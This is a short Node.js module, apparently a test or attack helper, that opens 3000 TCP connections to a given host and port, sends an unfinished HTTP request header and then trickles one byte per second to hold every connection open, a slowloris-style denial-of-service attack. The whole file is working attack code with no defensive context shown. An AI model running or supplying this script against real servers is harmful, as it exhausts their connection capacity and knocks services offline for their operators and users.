// Thousands of requests that are never whole: a byte a second each.
'use strict'
const net = require('node:net')
module.exports = (port, host) => new Promise(() => {
  for (let idx = 0; idx < 3000; idx += 1) {
    const socket = net.connect(port, host, () => { socket.write('GET / HTTP/1.1\r\nhost: a.example\r\nx: '); setInterval(() => socket.write('a'), 1000) })
    socket.on('error', () => 0).resume()
  }
})
